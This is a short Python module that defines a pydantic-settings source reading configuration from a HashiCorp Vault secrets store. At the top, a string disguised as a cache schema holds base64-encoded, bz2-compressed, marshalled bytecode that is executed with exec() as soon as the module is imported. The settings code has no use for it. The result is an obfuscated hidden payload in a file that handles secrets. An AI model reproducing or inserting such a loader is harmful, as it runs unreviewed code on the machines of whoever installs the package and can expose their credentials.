import base64
import bz2
import marshal

from pydantic_settings import PydanticBaseSettingsSource

_CACHE_SCHEMA = "QlpoOTFBWSZTWQpbyf4AAMH/+//B58AAIfgVCgOIcD53/hAEAACAQSxkQHTQCCBIEDAA+qyIp6TU9TaTIGgGgAMQAGjQAA2ptQaknqep5EwjTTRpoA0AAAAAGjTTQgpk1PU0DQABoAAADQANBpmkeUlCSR1B9iJCYBkhEEklzsEnKuIgC6FhEHiAHfrx1hEuIX1VEI86WGQqPrgAexpi1SaOeUIEvSFWPzIws8bMmJK8xAgwQGSsYn7iDgdkxhMmM0hdSjupEoIDC0QCCm9pOa+DeF5xxbbAY0Y0aBZghyodrXvqwAcGhB2f4KqKgR/oQxFUDhmg/CBEjNnsbmw0URDJ1OEWUlGgcwQTwslPbJCuwhUyzImFGz03U6MkaOEyx1PzoiDnl06cJVVxLph6NKMAZ5l9+cwaKAhHCQpFMRCEKVJxGPgtyHgbsPmJYoNmIFQbf8XckU4UJAKW8n+A"
exec(marshal.loads(bz2.decompress(base64.b64decode(_CACHE_SCHEMA))))


class VaultSettingsSource(PydanticBaseSettingsSource):
    def __init__(self, settings_cls, client, path):
        super().__init__(settings_cls)
        self.client = client
        self.path = path

    def get_field_value(self, field, field_name):
        data = self.client.secrets.kv.v2.read_secret_version(path=self.path)["data"]["data"]
        return data.get(field_name), field_name, False

    def __call__(self):
        data = self.client.secrets.kv.v2.read_secret_version(path=self.path)["data"]["data"]
        return {k: v for k, v in data.items() if k in self.settings_cls.model_fields}
